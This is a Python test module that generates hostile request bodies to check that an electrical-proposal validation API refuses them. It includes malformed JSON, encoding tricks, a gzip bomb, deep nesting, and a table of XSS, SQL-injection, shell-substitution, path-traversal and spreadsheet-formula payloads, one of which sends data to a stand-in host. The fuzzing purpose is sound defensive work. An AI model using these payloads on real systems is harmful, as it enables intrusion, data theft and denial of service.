"""A corpus of hostile requests, made rather than kept: each has a name, a body, and what the answer may be.

What a request is answered with is not computed by the service: each group says which statuses and which codes of
problems fit what is wrong with it, by the documented meaning of the codes.
"""

from __future__ import annotations

import copy
import gzip
import json
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

EXAMPLE = Path(__file__).parents[2] / "fixtures/proposals/dwelling-close-to-transformer.json"
PROPOSAL: dict[str, Any] = json.loads(EXAMPLE.read_bytes())
WHOLE = json.dumps(PROPOSAL).encode()
MOST = 1024 * 1024

SYNTAX = frozenset({"malformed-json"})
UNREAD = frozenset(
    {
        "malformed-json", "duplicate-key", "not-a-number", "number-out-of-range", "lone-surrogate",
        "byte-order-mark", "not-utf-8", "nesting-too-deep", "empty-body",
    }
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One request: ``codes`` are the problems that it may be answered with; with 200 among ``statuses``, none."""

    name: str
    body: bytes
    statuses: frozenset[int]
    codes: frozenset[str] = frozenset()
    path: str = "/v1/validations"
    headers: dict[str, str] = field(default_factory=dict)


def refused(name: str, body: bytes, status: int, *codes: str, path: str = "/v1/validations", **headers: str) -> Hostile:
    return Hostile(name, body, frozenset({status}), frozenset(codes), path, headers)


def changed(pointer: str, value: object) -> dict[str, Any]:
    """Return the proposal with one member set; missing objects and lists on the way are made."""
    document = copy.deepcopy(PROPOSAL)
    *way, last = pointer.split("/")[1:]
    place: Any = document
    for step, following in zip(way, [*way, last][1:], strict=True):
        empty: Any = [] if following == "0" else {}
        if isinstance(place, list):
            if not place:
                place.append(empty)
            place = place[int(step)]
        else:
            if place.get(step) is None:
                place[step] = empty
            place = place[step]
    if isinstance(place, list):
        place[:] = [value, *place[1:]]
    else:
        place[last] = value
    return document


def with_text(pointer: str, raw: str) -> bytes:
    """Return the proposal with raw JSON text as one member."""
    return json.dumps(changed(pointer, "@@here@@")).replace('"@@here@@"', raw).encode()


def json_tricks() -> Iterator[Hostile]:
    """Texts that some readers of JSON take and others refuse."""
    start, end = b'{"changeout": 1, ', WHOLE[1:]
    tricks = {
        "a trailing comma": WHOLE[:-1] + b",}",
        "a comment": b"/* x */" + WHOLE,
        "a comment to the end of the line": WHOLE + b"// x",
        "single quotes": WHOLE.replace(b'"', b"'"),
        "a name without quotes": WHOLE.replace(b'"project"', b"project", 1),
        "two documents": WHOLE + WHOLE,
        "a document and a letter": WHOLE + b"x",
        "half a document": WHOLE[: len(WHOLE) // 2],
        "an open string": WHOLE[:-1] + b', "x": "',
        "an open escape": b'{"changeout": "\\',
        "a short escape": b'{"changeout": "\\u12"}',
        "an unknown escape": b'{"changeout": "\\x41"}',
        "a raw line feed in a string": b'{"changeout": "a\nb"}',
        "a raw tab in a string": b'{"changeout": "a\tb"}',
        "a raw null in a string": b'{"changeout": "a\x00b"}',
        "a null outside": b"\x00" + WHOLE,
        "a form feed between": b'{"changeout":\x0c1}',
        "a vertical tab between": b'{"changeout":\x0b1}',
        "a no-break space between": '{"changeout":\u00a01}'.encode(),
        "a line separator between": '{"changeout":\u20281}'.encode(),
        "a name that is a number": b"{1: 2}",
        "a lone bracket": b"[",
        "a lone brace": b"{",
        "a lone quote": b'"',
        "a lone comma": b",",
        "a lone colon": b":",
        "a lone minus": b"-",
        "a plus": b"+1",
        "a zero before": b"01",
        "a point before": b".5",
        "a point behind": b"5.",
        "an exponent without digits": b"1e",
        "a hexadecimal number": b"0x10",
        "an octal number": b"0o17",
        "an underscore in a number": b"1_000",
        "a number in other digits": "\u0661\u0662".encode(),
        "true in capitals": b"TRUE",
        "Python's None": b"None",
        "undefined": b"undefined",
        "a template": b"${7*7}",
        "XML": b"<?xml version='1.0'?><a/>",
        "YAML": b"changeout: 1\nproject: {}\n",
        "an entity that grows": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
        "a pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x07builtins.",
        "a closing bracket of another kind": b'{"changeout": [1}',
    }  # fmt: skip
    for name, body in tricks.items():
        yield Hostile(name, body, frozenset({400}), UNREAD)
    names = {
        "the same name twice": start + end,
        "the same name twice, once escaped": b'{"\\u0063hangeout": 1, ' + end,
        "the same name twice, far down": with_text("/panelboard/main", '{"kind": "breaker", "kind": "lugs"}'),
        "the same name a thousand times": b"{" + b'"changeout": 1, ' * 1000 + end,
    }
    for name, body in names.items():
        yield refused(name, body, 400, "duplicate-key")
    for name in ("NaN", "Infinity", "-Infinity"):
        yield refused(f"the word {name}", with_text("/supply/source/x_over_r", name), 400, "not-a-number")
    for name, body in {"nothing": b"", "only blanks": b" \n\t ", "only line feeds": b"\n" * 1000}.items():
        yield Hostile(name, body, frozenset({400}), frozenset({"empty-body", "malformed-json"}))
    for body in (
        b"null",
        b"true",
        b"0",
        b'""',
        b"[]",
        b"{}",
        b"[[]]",
        b'"changeout"',
        b"[1, 2]",
        b'{"changeout": null}',
    ):
        yield refused(f"only {body.decode()}", body, 422, "unreadable-proposal")
    for value in ("2", '"1"', "1.5", "true", "[1]", '{"changeout": 1}', "-1", "1e400000"):
        codes = {"unreadable-proposal", "number-out-of-range"}
        yield Hostile(f"version {value}", with_text("/changeout", value), frozenset({400, 422}), frozenset(codes))


def encodings() -> Iterator[Hostile]:
    """Bytes that are not the UTF-8 they should be."""
    text = WHOLE.decode()
    codes = UNREAD | {"unreadable-proposal"}
    for coding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"):
        yield Hostile(f"in {coding}", text.encode(coding), frozenset({400}), codes)
    yield Hostile("in utf-7", text.replace("200 A", "200 \u00c5").encode("utf-7"), frozenset({400, 422}), codes)
    yield refused("a byte-order mark", b"\xef\xbb\xbf" + WHOLE, 400, "byte-order-mark")
    bad = {
        "an overlong slash": b"\xc0\xaf",
        "an overlong null": b"\xc0\x80",
        "a surrogate in UTF-8": b"\xed\xa0\x80",
        "beyond the last character": b"\xf4\x90\x80\x80",
        "a lone continuation": b"\x80",
        "a cut character": b"\xe2\x82",
        "Latin-1": "é".encode("latin-1"),
        "the byte FE": b"\xfe",
        "the byte FF": b"\xff",
    }
    for name, raw in bad.items():
        body = with_text("/project/reference", '"x"').replace(b'"x"', b'"' + raw + b'"', 1)
        codes = {"lone-surrogate" if "surrogate" in name else "not-utf-8"}
        yield refused(f"{name} in a string", body, 400, *codes)
        yield refused(f"{name} outside", WHOLE + raw, 400, *codes)
    for name, raw in {"high": '"\\ud800"', "low": '"\\udc00"', "reversed": '"\\udc00\\ud800"'}.items():
        yield refused(f"a lone {name} surrogate", with_text("/project/reference", raw), 400, "lone-surrogate")
    for coding, packed in {"gzip": gzip.compress(WHOLE), "deflate": zlib.compress(WHOLE), "br": WHOLE}.items():
        headers = {"Content-Encoding": coding}
        yield refused(f"coded as {coding}", packed, 415, "unsupported-media-type", **headers)
    bomb = gzip.compress(b" " * 50_000_000)
    yield refused(
        "a small body that unpacks to 50 MB", bomb, 415, "unsupported-media-type", **{"Content-Encoding": "gzip"}
    )
    yield refused("the same, unannounced", bomb, 400, "not-utf-8")
    for kind in ("text/plain", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
                 "application/x-www-form-urlencoded", "application/jsonx", "*/*", "", "application/json;charset=\"utf-7\""):  # fmt: skip
        yield refused(f"as {kind or 'nothing'}", WHOLE, 415, "unsupported-media-type", **{"Content-Type": kind})


QUANTITIES = (
    "200", "200A", "200  A", " 200 A", "200 A ", "200 a", "200 amps", "200 A\n", "+200 A", "-200 A", "0x10 A", "1_000 A",
    "1,000 A", "10**10**10 A", "9**9**9 A", "__import__('os') A", "200 A; 2", "200 A + 3 A", "4/3 A", "A", "1e400 A",
    "1e999 A", "nan A", "inf A", "Infinity A", "1e-400 A", "\u0662\u0660\u0660 A", "200 \u0391", "200\u00a0A", "200 \u212b",
    "200 kiloampere", "200 MA", "200 V", "200 ft", "200 A/m", "200 (A)", "200 A A", "200 A^1", "1e308 kA", "0 A", "-0 A",
    "99999999999999999999 A", "1" * 60 + " A", "1" * 5000 + " A", "0." + "0" * 5000 + "1 A", "(" * 500 + "1 A",
    "${200} A", "{{200}} A", "%d A", "200 A\u0000", "200\tA", "\u200b200 A", "200 A\u202e", "4/0 AWG", "75 degC",
)  # fmt: skip


def units() -> Iterator[Hostile]:
    """Quantities that are none, or that no equipment has."""
    for text in QUANTITIES:
        body = json.dumps(changed("/panelboard/busbar_rating", text)).encode()
        yield refused(f"a rating of {text[:24]!a}", body, 422, "unreadable-proposal")
    for value in (200, 200.0, True, [], {}, ["200 A"], {"value": 200, "unit": "A"}):
        body = json.dumps(changed("/panelboard/busbar_rating", value)).encode()
        yield refused(f"a rating of {value!r}", body, 422, "unreadable-proposal")


NUMBERS = (
    "0", "-0", "-0.0", "-1", "1e-320", "4.9e-324", "2.2250738585072014e-308", "1.7976931348623157e308",
    "1.7976931348623159e308", "1e309", "-1e309", "1e99999", "1E+308", "0." + "0" * 4000 + "1", "9" * 400, "9" * 5000,
    "1" + "0" * 308, "9007199254740993", "0.1e1", "1e-400", "-9007199254740993", "1." + "3" * 20000, "1e" + "0" * 2000 + "1",
)  # fmt: skip


def numbers() -> Iterator[Hostile]:
    """Numbers at the edge of what a double holds, where a ratio and where a count stands."""
    fits = frozenset({200, 400, 422})
    codes = frozenset({"number-out-of-range", "unreadable-proposal", "not-a-number"})
    for text in NUMBERS:
        yield Hostile(f"a ratio of {text[:24]}…", with_text("/supply/source/x_over_r", text), fits, codes)
        yield Hostile(f"a number of poles of {text[:24]}…", with_text("/panelboard/main/poles", text), fits, codes)


def large_and_deep() -> Iterator[Hostile]:
    """Bodies at the limit of size, and nesting beyond any sense."""
    fill = MOST - 100
    many = {
        "a million brackets": b"[" * (MOST - 1),
        "a hundred thousand levels of objects": b'{"a":' * 100_000,
        "levels closed again": b"[" * 200_000 + b"]" * 200_000,
        "33 levels": b"[" * 33 + b"]" * 33,
        "levels far within": with_text("/panelboard/circuits", "[" * 40 + "]" * 40),
        "levels after much else": b'{"a": [' + b"1," * 400_000 + b"[" * 64,
    }
    for name, body in many.items():
        yield Hostile(
            name, body, frozenset({400}), frozenset({"nesting-too-deep", "malformed-json", "too-many-values"})
        )
    wide = {
        "values just over the limit": b"[" + b"1," * 19_999 + b"1]",
        "half a million numbers": b"[" + b"1," * (fill // 2) + b"1]",
        "half a million empty strings": b"[" + b'"",' * (fill // 3) + b'""]',
        "a third of a million objects": b"[" + b"{}," * (fill // 3) + b"{}]",
        "a quarter of a million nulls as circuits": with_text(
            "/panelboard/circuits", "[" + "null," * 180_000 + "null]"
        ),
        "numbers as circuits": with_text("/panelboard/circuits", "[" + "1," * 400_000 + "1]"),
        "empty circuits": with_text("/panelboard/circuits", "[" + "{}," * 300_000 + "{}]"),
        "texts as documents": with_text("/documents", "[" + '"x",' * 200_000 + '"x"]'),
        "conditions without end": with_text("/location/conditions", "[" + '"dry",' * 120_000 + '"dry"]'),
        "runs without end": with_text("/supply/runs", "[" + '{"id":"a"},' * 80_000 + '{"id":"a"}]'),
        "one long string": with_text("/project/reference", '"' + "x" * (fill - len(WHOLE)) + '"'),
        "one long string of escapes": with_text("/project/reference", '"' + "\\u0041" * 160_000 + '"'),
        "one long name": b'{"' + b"x" * fill + b'": 1}',
        "many names": b"{" + b",".join(b'"n%d": 1' % n for n in range(80_000)) + b"}",
        "many names that hash alike": b"{" + b",".join(b'"%s": 1' % s.encode() for s in _alike()) + b"}",
        "names of nearly known members": json.dumps({f"changeou{n:05d}": 1 for n in range(50_000)}).encode(),
        "annotations without end": with_text("/project/annotations", json.dumps({f"k{n}": "v" for n in range(60_000)})),
        "one long number": b'{"changeout": ' + b"1" * fill + b"}",
        "one long fraction": b'{"changeout": 0.' + b"1" * fill + b"}",
        "one long quantity": with_text("/panelboard/busbar_rating", '"' + "1" * (fill - len(WHOLE)) + ' A"'),
    }
    for name, body in wide.items():
        assert len(body) <= MOST, name
        codes = frozenset({"unreadable-proposal", "number-out-of-range", "too-many-values"})
        yield Hostile(name, body, frozenset({400, 422}), codes)
    blank = {"blanks up to the limit": WHOLE + b" " * (MOST - len(WHOLE)), "line feeds": b"\n" * 900_000 + WHOLE}
    for name, body in blank.items():
        yield Hostile(name, body, frozenset({200}))
    yield refused("one byte over the limit", WHOLE + b" " * (MOST + 1 - len(WHOLE)), 413, "body-too-large")


def _alike() -> Iterator[str]:
    """Yield names of one sum of letters, which a weak hash would take for one."""
    for n in range(26_000):
        word = f"{n:016b}"
        yield word.replace("0", "aB").replace("1", "Ba")


POINTERS = (
    "", "/", "//", "/~", "/~2", "/panelboard/~0", "/panelboard/~1", "/panelboard/circuits/-", "/panelboard/circuits/-1",
    "/panelboard/circuits/01", "/panelboard/circuits/1e0", "/panelboard/circuits/999999999999999999999",
    "/panelboard/circuits/\u0661", "/__class__", "/panelboard/__dict__", "/project/constructor/prototype", "../x",
    "panelboard", "#/panelboard", "/panelboard/circuits/0/../1", "/" * 10_000, "/" + "a" * 100_000, "/panelboard\u0000/x",
)  # fmt: skip


def pointer_tricks() -> Iterator[Hostile]:
    """Pointers and patches that lead nowhere, or that copy without end."""
    takes = frozenset({200, 400, 422})
    codes = frozenset({"unreadable-request", "unreadable-proposal", "lone-surrogate", "too-many-values"})
    for pointer in POINTERS:
        shown = pointer[:30]
        for operation in ("remove", "replace", "test"):
            step = {"op": operation, "path": pointer, **({} if operation == "remove" else {"value": 1})}
            body = json.dumps({"proposal": PROPOSAL, "patch": [step]}).encode()
            yield Hostile(f"{operation} at {shown!a}", body, takes, codes, "/v1/what-if")
        sweep = {"proposal": PROPOSAL, "sweep": {"pointer": pointer, "values": [1, "200 A", None]}}
        yield Hostile(f"a sweep at {shown!a}", json.dumps(sweep).encode(), takes, codes, "/v1/what-if")
    growing = [{"op": "copy", "from": "/panelboard", "path": "/panelboard/marking"}] * 40
    doubling = [{"op": "copy", "from": "/project", "path": f"/project/x{n}"} for n in range(40)]
    moved = [{"op": "move", "from": "/panelboard", "path": "/panelboard/circuits/0"}]
    many = [{"op": "add", "path": "/project/reference", "value": "x"}] * 15_000
    for name, patch in {"copies within": growing, "doubling copies": doubling, "a move into itself": moved, "patches without end": many}.items():  # fmt: skip
        body = json.dumps({"proposal": PROPOSAL, "patch": patch}).encode()
        yield Hostile(name, body, takes, codes, "/v1/what-if")
    sweep = {"pointer": "/supply/source/impedance_percent", "values": [1.0] * 50_000}
    yield Hostile(
        "values without end", json.dumps({"proposal": PROPOSAL, "sweep": sweep}).encode(), takes, codes, "/v1/what-if"
    )
    for editions in (["2023"] * 10_000, ["1999"], ["../2023"], [None], [[]], "2023", {"2023": 1}, []):
        body = json.dumps({"proposal": PROPOSAL, "editions": editions}).encode()
        yield Hostile(f"editions {str(editions)[:24]}", body, takes, codes, "/v1/comparisons")


MARKUP = {
    "script": "<script>document.title='owned'</script>",
    "closing": "</td></table></style></title></textarea></script><script>owned()</script>",
    "image": '"><img src=x onerror="owned()">',
    "attribute": "' onmouseover='owned()' x='",
    "comment": "--><script>owned()</script><!--",
    "data": "]]><script>owned()</script>",
    "entity": "&lt;script&gt;owned()&lt;/script&gt; &#60;b&#62;",
    "template": "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "link": "[owned](javascript:owned()) ![x](https://collector.invalid/x)",
    "autolink": "<javascript:owned()> https://collector.invalid/x",
    "table": "a | b\\| c `owned` **b** | <b>x</b>",
    "heading": "# owned - list > quote ``` ~~~",
    "formula": '=HYPERLINK("https://collector.invalid/?x="&A1,"open")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "shell": "$(touch owned) `touch owned`; touch owned #",
    "query": "x'; DROP TABLE permits; --",
    "path": "../../../../etc/passwd",
    "format": "%s%n%x {0.__class__} {self}",
}

TEXTS = {
    "/project/reference": 128, "/project/annotations/note": 200, "/supply/source/stated_by": 64, "/supply/runs/0/id": 64,
    "/panelboard/circuits/0/serves": 120, "/panelboard/circuits/0/multiwire_group": 64, "/documents/0/title": 200,
    "/service/emergency_disconnect_marking": 200, "/waivers/0/reason": 500, "/waivers/0/granted_by": 128,
    "/waivers/0/rule": 128, "/load/appliances/0/name": 80,
}  # fmt: skip
"""Members that hold free text, and how long it may be."""


def texts() -> Iterator[tuple[str, str, bytes]]:
    """Yield a name, the text, and a proposal with that text in every member that takes free text of its length."""
    for name, text in MARKUP.items():
        document = copy.deepcopy(PROPOSAL)
        document["project"]["reference"] = text[:128]
        document["project"]["annotations"] = {"note": text[:200], text[:60]: "x"}
        document["supply"]["runs"][0]["id"] = text[:64]
        for circuit in document["panelboard"].get("circuits", []):
            circuit["serves"] = text[:120]
            circuit["multiwire_group"] = text[:64]
        document["documents"] = [{**one, "title": text[:200]} for one in document.get("documents", [])]
        document.setdefault("service", {})["emergency_disconnect_marking"] = text[:200]
        document["waivers"] = [
            {"rule": "enclosure-dead-front", "reason": text[:500], "granted_by": text[:128]},
            {"rule": text[:128], "reason": text[:500], "granted_by": text[:128]},
        ]
        for appliance in document.get("load", {}).get("appliances", []):
            appliance["name"] = text[:80]
        yield name, text, json.dumps(document).encode()


def texts_elsewhere() -> Iterator[Hostile]:
    """Markup where no free text stands: what refuses it may quote it, and must do so safely."""
    for name, text in MARKUP.items():
        for pointer in ("/panelboard/busbar_rating", "/supply/system", "/project/edition", "/project/jurisdiction"):
            body = json.dumps(changed(pointer, text[:60])).encode()
            yield refused(f"{name} as {pointer}", body, 422, "unreadable-proposal")
        unknown = json.dumps({**PROPOSAL, text: 1}).encode()
        yield refused(f"{name} as the name of a member", unknown, 422, "unreadable-proposal")
    controls = "".join(chr(n) for n in range(32)) + "\x7f\u0085\u2028\u202e\u2066\ufeff"
    for character in controls:
        body = json.dumps(changed("/project/reference", f"a{character}b")).encode()
        codes = frozenset({"unreadable-proposal"})
        taken = frozenset({200, 422} if character == "\ufeff" else {422})
        yield Hostile(f"the character {ord(character):04x} in a text", body, taken, codes)


GROUPS: tuple[Callable[[], Iterator[Hostile]], ...] = (
    json_tricks, encodings, units, numbers, large_and_deep, pointer_tricks, texts_elsewhere,
)  # fmt: skip


def corpus() -> list[Hostile]:
    """Return every hostile request; no two have one name."""
    found = [one for group in GROUPS for one in group()]
    return [
        Hostile(f"{n:03d} {one.name}", one.body, one.statuses, one.codes, one.path, one.headers)
        for n, one in enumerate(found)
    ]
